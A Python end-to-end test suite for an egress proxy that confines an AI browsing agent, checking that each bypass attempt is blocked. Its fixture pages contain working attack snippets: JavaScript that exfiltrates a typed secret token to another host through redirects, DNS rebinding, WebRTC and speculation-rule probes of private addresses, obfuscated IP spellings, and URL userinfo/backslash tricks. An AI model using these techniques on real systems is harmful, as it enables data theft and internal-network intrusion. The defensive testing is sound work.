"""The egress proxy, end to end, tried as an attacker would: every vector that
went around the old per-request guard (a new tab's first load, redirects of
subresources carrying a secret, a fetch reading another host's answer through a
redirect, speculation rules, WebRTC, chrome://, DNS rebinding) and the
`host:port` allow-list entries, through the API with real Chromium.

The private service is a site on 127.0.0.2 (same port as the test site, so a
rebound name keeps its origin) and a UDP/TCP listener there recording every
packet and connection. Names are answered by the proxy's test resolver
(BROWSERQ_TEST_DNS): allowed.test and other.test are the test site,
private.test is 127.0.0.2, rebind.test answers 127.0.0.1 first and 127.0.0.2 after. The stack allows only
the test site's own port on 127.0.0.1 (and a closed one), and `127.0.0.2` bare
(ports 80 and 443)."""

from __future__ import annotations

import json
import socket
import threading
from collections import Counter
from collections.abc import Iterator

import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route

from tests.support.app_server import free_port
from tests.support.scripted_model import ScriptedModelServer, answer, message_texts
from tests.support.site import SiteServer
from tests.support.stack import Stack, wait_for

pytestmark = pytest.mark.e2e
FINAL = {"finished", "failed", "stopped"}
PRIVATE_TEXT = "PRIVATE-DATA-9"
OTHER_TEXT = "OTHER-HOST-ANSWER"
CLOSED = free_port()  # allowed, and nothing listens there


class Listener:
    """UDP and TCP on one port of 127.0.0.2, counting what arrives."""

    def __init__(self) -> None:
        self.port = free_port("127.0.0.2")
        self.packets = 0
        self.connections = 0
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.2", self.port))
        self._tcp = socket.socket()
        self._tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._tcp.bind(("127.0.0.2", self.port))
        self._tcp.listen()
        threading.Thread(target=self._count_udp, daemon=True).start()
        threading.Thread(target=self._count_tcp, daemon=True).start()

    def _count_udp(self) -> None:
        while True:
            try:
                self._udp.recvfrom(65536)
            except OSError:
                return
            self.packets += 1

    def _count_tcp(self) -> None:
        while True:
            try:
                conn, _ = self._tcp.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._udp.close()
        self._tcp.close()


@pytest.fixture(scope="module")
def hits(site: SiteServer) -> Iterator[Counter]:
    """`/eg-sink/{name}` counts requests by Host and name; `/eg-redirect?to=` redirects."""
    counter: Counter = Counter()

    async def sink(request: Request) -> Response:
        counter[f"{request.headers.get('host', '').split(':')[0]}/{request.path_params['name']}"] += 1
        text = OTHER_TEXT if request.headers.get("host", "").startswith("other.test") else "sink"
        return HTMLResponse(f"<title>Sink</title><p>{text}</p>", headers={"Access-Control-Allow-Origin": "*"})

    async def redirect(request: Request) -> Response:
        return RedirectResponse(request.query_params["to"], status_code=302)

    site.app.router.routes[:0] = [Route("/eg-sink/{name}", sink), Route("/eg-redirect", redirect)]
    yield counter


@pytest.fixture(scope="module")
def private(site: SiteServer) -> Iterator[tuple[SiteServer, Counter]]:
    """A "private" service on 127.0.0.2, at the test site's port; counts every request."""
    server = SiteServer(host="127.0.0.2", port=site.port)
    counter: Counter = Counter()

    async def anything(request: Request) -> Response:
        counter[request.url.path] += 1
        return HTMLResponse(
            f"<title>Private</title><p>{PRIVATE_TEXT}</p>", headers={"Access-Control-Allow-Origin": "*"}
        )

    server.app.router.routes[:0] = [Route("/{path:path}", anything, methods=["GET", "POST"])]
    with server:
        yield server, counter


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture(scope="module")
def egress_stack(model: ScriptedModelServer, site: SiteServer, hits: Counter, private: object) -> Iterator[Stack]:
    dns = {
        "allowed.test": ["127.0.0.1"],
        "other.test": ["127.0.0.1"],
        "private.test": ["127.0.0.2"],
        "rebind.test": ["127.0.0.1", "127.0.0.2"],
    }
    stack = Stack(
        kind="embedded",
        model_base_url=model.base_url,
        concurrency=1,  # one worker process: the test resolver's answers are counted per process
        env_extra={
            "BROWSERQ_ALLOW_PRIVATE_HOSTS": json.dumps([f"127.0.0.1:{site.port}", "127.0.0.2", f"127.0.0.1:{CLOSED}"]),
            "BROWSERQ_TEST_DNS": json.dumps(dns),
        },
    )
    try:
        yield stack.start()
    finally:
        stack.stop()


def run(stack: Stack, model: ScriptedModelServer, replies: list[dict], **fields: object) -> list[str]:
    """Runs a scripted task to its end; returns the user prompt of each step."""
    key = model.script(replies)
    with stack.client() as client:
        response = client.post("/run-task", json={"task": f"Browse [script:{key}]", **fields})
        assert response.status_code == 200, response.text
        task = wait_for(client, response.json()["id"], FINAL, timeout=120)
    assert task["status"] == "finished", task
    return ["\n".join(message_texts(body, "user")) for body in model.calls(key)["requests"]]


def test_a_new_tabs_first_load_is_checked_both_ways(
    egress_stack: Stack,
    model: ScriptedModelServer,
    site: SiteServer,
    hits: Counter,
    private: tuple[SiteServer, Counter],
) -> None:
    """window.open to a redirect, and the agent's own new tab to an allowed URL that redirects."""
    base = f"http://allowed.test:{site.port}"
    page = site.add_page(
        "eg-opener",
        f"""<title>Opener</title><button onclick="window.open('/eg-redirect?to=http://other.test:{site.port}/eg-sink/popup')">Open</button>""",
    )
    prompts = run(
        egress_stack,
        model,
        [
            answer("Open", {"navigate": {"url": page.replace("127.0.0.1", "allowed.test")}}),
            answer("Pop", {"click": {"index": "@text:Open"}}),
            answer(
                "New tab",
                {"navigate": {"url": f"{base}/eg-redirect?to=http://127.0.0.2:{site.port}/secret", "new_tab": True}},
            ),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
        allowed_domains=["allowed.test"],
    )
    assert hits["other.test/popup"] == 0 and sum(private[1].values()) == 0
    assert f"Blocked a redirect from {base}/eg-redirect?to=http://other.test:{site.port}/eg-sink/popup" in prompts[2]
    assert "other.test is not in the task's allowed_domains (allowed.test)" in prompts[2]
    assert "127.0.0.2 is not in the task's allowed_domains" in prompts[3]
    assert OTHER_TEXT not in "".join(prompts) and PRIVATE_TEXT not in "".join(prompts)


def test_subresource_redirects_carry_no_secret_and_read_no_other_host(
    egress_stack: Stack, model: ScriptedModelServer, site: SiteServer, hits: Counter
) -> None:
    other = f"http://other.test:{site.port}/eg-sink"
    page = site.add_page(
        "eg-leak",
        f"""<title>Leak</title><input aria-label="Token" id=t><button onclick="leak()">Send</button><p id=out>nothing yet</p>
<script>
function via(url) {{ return '/eg-redirect?to=' + encodeURIComponent(url); }}
function leak() {{
  const v = document.getElementById('t').value;
  new Image().src = via('{other}/img?s=' + v);
  const s = document.createElement('script'); s.src = via('{other}/script?s=' + v); document.head.appendChild(s);
  fetch(via('{other}/fetch?s=' + v)).then(r => r.text())
    .then(t => document.getElementById('out').textContent = 'read: ' + t)
    .catch(e => document.getElementById('out').textContent = 'fetch failed: ' + e);
}}
</script>""",
    ).replace("127.0.0.1", "allowed.test")
    prompts = run(
        egress_stack,
        model,
        [
            answer("Open", {"navigate": {"url": page}}),
            answer(
                "Type and send",
                {"input": {"index": "@text:Token", "text": "<secret>token</secret>"}},
                {"click": {"index": "@text:Send"}},
            ),
            answer("Look", {"wait": {"seconds": 1}}),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
        allowed_domains=["allowed.test"],
        secrets={"token": "TOPSECRET-77"},
    )
    assert not any(key.startswith("other.test/") for key in hits), hits
    assert hits["allowed.test/img"] == 0  # the redirect is the only way there: same sink, other host
    assert "fetch failed" in prompts[3] and OTHER_TEXT not in "".join(prompts)
    assert "Blocked the page's requests to other.test: other.test is not in the task's allowed_domains" in "".join(
        prompts
    )


def test_speculation_rules_prefetch_and_prerender_go_through_the_proxy(
    egress_stack: Stack,
    model: ScriptedModelServer,
    site: SiteServer,
    hits: Counter,
    private: tuple[SiteServer, Counter],
) -> None:
    secret = f"http://127.0.0.2:{site.port}"
    rules = {
        "prefetch": [{"source": "list", "urls": ["/eg-sink/prefetch-control", f"{secret}/prefetch"]}],
        "prerender": [{"source": "list", "urls": ["/eg-sink/prerender-control", f"{secret}/prerender"]}],
    }
    page = site.add_page(
        "eg-speculate",
        f"""<title>Speculate</title><script type="speculationrules">{json.dumps(rules)}</script>
<a href="{secret}/prerender">Prerendered</a>""",
    )
    prompts = run(
        egress_stack,
        model,
        [
            answer("Open", {"navigate": {"url": page}}),
            answer("Let it speculate", {"wait": {"seconds": 2}}),
            answer("Follow", {"click": {"index": "@text:Prerendered"}}),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
    )
    assert hits["127.0.0.1/prefetch-control"] + hits["127.0.0.1/prerender-control"] >= 1  # speculation ran
    assert sum(private[1].values()) == 0, private[1]
    assert PRIVATE_TEXT not in "".join(prompts)
    assert f"Blocked the navigation to {secret}/prerender: 127.0.0.2 is a private" in prompts[3]


def test_webrtc_and_webtransport_send_nothing_to_a_private_port(
    egress_stack: Stack, model: ScriptedModelServer, site: SiteServer, listener: Listener
) -> None:
    target = f"127.0.0.2:{listener.port}"
    page = site.add_page(
        "eg-rtc",
        f"""<title>RTC</title><p id=out>gathering</p><script>
const found = [];
const pc = new RTCPeerConnection({{iceServers: [
  {{urls: 'stun:{target}'}},
  {{urls: ['turn:{target}?transport=udp', 'turn:{target}?transport=tcp'], username: 'u', credential: 'p'}}]}});
pc.createDataChannel('x');
pc.onicecandidate = e => {{ if (e.candidate) found.push(e.candidate.candidate.split(' ')[7]); }};
pc.createOffer().then(o => pc.setLocalDescription(o));
let wt = 'not tried';
try {{ new WebTransport('https://{target}/').ready.then(() => wt = 'open', e => wt = 'failed'); }} catch (e) {{ wt = 'absent'; }}
setTimeout(() => document.getElementById('out').textContent = 'candidates: [' + found.join(',') + '] webtransport: ' + wt, 2500);
</script>""",
    )
    prompts = run(
        egress_stack,
        model,
        [
            answer("Open", {"navigate": {"url": page}}),
            answer("Wait", {"wait": {"seconds": 3}}),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
    )
    assert "webtransport: failed" in prompts[2] or "webtransport: absent" in prompts[2]
    assert "candidates: []" in prompts[2]  # no host candidates, no UDP of its own
    assert listener.packets == 0 and listener.connections == 0


def test_chrome_and_other_schemes_are_refused(egress_stack: Stack, model: ScriptedModelServer) -> None:
    prompts = run(
        egress_stack,
        model,
        [
            answer("Look", {"navigate": {"url": "chrome://version"}}),
            answer("Again", {"navigate": {"url": "about:version"}}),
            answer("Pause", {"wait": {"seconds": 0}}),  # three failures in a row would end the task
            answer("Source", {"navigate": {"url": "view-source:http://allowed.test/"}}),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
        allowed_domains=["allowed.test"],
    )
    assert "error: cannot open chrome://version: chrome: URLs are not allowed" in prompts[1]
    assert "error: cannot open about:version: about: URLs are not allowed" in prompts[2]
    assert "error: cannot open view-source:http://allowed.test/: view-source: URLs are not allowed" in prompts[4]
    assert "Command Line" not in "".join(prompts) and "Profile Path" not in "".join(prompts)


def test_dns_rebinding_reaches_only_the_checked_address(
    egress_stack: Stack, model: ScriptedModelServer, site: SiteServer, private: tuple[SiteServer, Counter]
) -> None:
    """rebind.test answers 127.0.0.1 to the first look-up and 127.0.0.2 after: the page
    loaded from the first answer and its same-origin fetch later still goes there; a
    new task (a fresh look-up) is refused, and nothing ever reaches 127.0.0.2."""
    page = site.add_page(
        "eg-rebind",
        """<title>Rebind</title><p>PUBLIC-REBIND</p><p id=out>waiting</p><script>
setTimeout(() => fetch('/eg-sink/rebound').then(r => r.text())
  .then(t => document.getElementById('out').textContent = 'second answer: ' + t.replace(/<[^>]+>/g, ''))
  .catch(e => document.getElementById('out').textContent = 'failed ' + e), 300);
</script>""",
    ).replace("127.0.0.1", "rebind.test")
    steps = [
        answer("Open", {"navigate": {"url": page}}),
        answer("Wait", {"wait": {"seconds": 1}}),
        answer("Finish", {"done": {"text": "ok"}}),
    ]
    first = run(egress_stack, model, steps)
    assert "PUBLIC-REBIND" in first[1] and "second answer: Sinksink" in first[2]
    second = run(egress_stack, model, steps)
    assert f"error: cannot open {page}: rebind.test is a private, loopback or link-local address" in second[1]
    assert sum(private[1].values()) == 0 and PRIVATE_TEXT not in "".join(first + second)


def test_host_port_allow_entries_open_that_port_only(
    egress_stack: Stack, model: ScriptedModelServer, site: SiteServer, private: tuple[SiteServer, Counter]
) -> None:
    """`127.0.0.1:<site port>` opens the site and not the API beside it; a bare `127.0.0.2`
    means ports 80 and 443, so the private service on another port stays closed."""
    api = f"http://127.0.0.1:{egress_stack.port}/api/v1/ping"
    page = site.add_page(
        "eg-ports",
        f"""<title>Ports</title><p id=out>waiting</p><script>
fetch('{api}').then(r => r.text()).then(t => document.getElementById('out').textContent = 'api said ' + t)
  .catch(e => document.getElementById('out').textContent = 'api unreachable');
</script>""",
    )
    prompts = run(
        egress_stack,
        model,
        [
            answer("Open", {"navigate": {"url": page}}),
            answer("Wait", {"wait": {"seconds": 1}}),
            answer("Private", {"navigate": {"url": f"http://127.0.0.2:{site.port}/bare"}}),
            answer("API", {"navigate": {"url": api}}),
            answer("Pause", {"wait": {"seconds": 0}}),  # three failures in a row would end the task
            answer("Closed", {"navigate": {"url": f"http://127.0.0.1:{CLOSED}/"}}),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
    )
    assert "api unreachable" in prompts[2]
    assert f"lists it for port {site.port}" in prompts[3] and "cannot open http://127.0.0.2" in prompts[3]
    assert f"error: cannot open {api}: 127.0.0.1 is a private" in prompts[4]
    assert f"lists it for port {egress_stack.port}" in prompts[4]
    assert f"error: cannot open http://127.0.0.1:{CLOSED}/: the site did not answer" in prompts[6]
    assert sum(private[1].values()) == 0


def test_what_held_before_still_holds(
    egress_stack: Stack,
    model: ScriptedModelServer,
    site: SiteServer,
    hits: Counter,
    private: tuple[SiteServer, Counter],
) -> None:
    """Every way a page asks for a private address (WebSocket, EventSource, sendBeacon, a
    worker, a form; every spelling of 127.0.0.2, a name resolving to it) and every trick
    against allowed_domains (userinfo, backslash, look-alike, another port) is refused."""
    port = site.port
    spellings = ["2130706434", "0x7f.0.0.2", "127.2", "[::ffff:7f00:2]", "0177.0.0.2"]
    page = site.add_page(
        "eg-held",
        f"""<title>Held</title><form method=post action="http://127.0.0.2:{port}/form"><button>Post</button></form>
<script>
const P = {port};
try {{ new WebSocket('ws://127.0.0.2:' + P + '/ws'); }} catch (e) {{}}
try {{ new EventSource('http://127.0.0.2:' + P + '/events'); }} catch (e) {{}}
navigator.sendBeacon('http://127.0.0.2:' + P + '/beacon', 'x');
new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.2:" + P + "/worker')"])));
for (const h of {json.dumps(spellings)}) fetch('http://' + h + ':' + P + '/spelling').catch(() => {{}});
fetch('http://private.test:' + P + '/by-name').catch(() => {{}});
</script>""",
    ).replace("127.0.0.1", "allowed.test")
    other = f"other.test:{port}"
    prompts = run(
        egress_stack,
        model,
        [
            answer("Open", {"navigate": {"url": page}}),
            answer("Wait", {"wait": {"seconds": 1}}),
            answer("Post", {"click": {"index": "@text:Post"}}),
            answer(
                "Tricks",
                {"navigate": {"url": f"http://allowed.test@{other}/eg-sink/userinfo"}},
                {"navigate": {"url": f"http://allowed.test.{other}/eg-sink/lookalike"}},
            ),
            answer("Pause", {"wait": {"seconds": 0}}),
            answer(
                "Backslash",
                {"navigate": {"url": f"http://{other}\\@allowed.test/eg-sink/backslash"}},
                {"navigate": {"url": f"http://allowed.test:{port + 1}/eg-sink/port"}},
            ),
            answer("Finish", {"done": {"text": "ok"}}),
        ],
        allowed_domains=[f"allowed.test:{port}", "private.test", "127.0.0.2"],
    )
    assert sum(private[1].values()) == 0, private[1]
    assert not any(key.startswith("other.test/") for key in hits), hits
    assert "Blocked the page's requests to 127.0.0.2" in prompts[1] + prompts[2]
    assert "Blocked the navigation to http://127.0.0.2" in prompts[3]
    assert f"cannot open http://allowed.test@{other}/eg-sink/userinfo: other.test is not in" in prompts[4]
    assert "is not in the task's allowed_domains" in prompts[6]
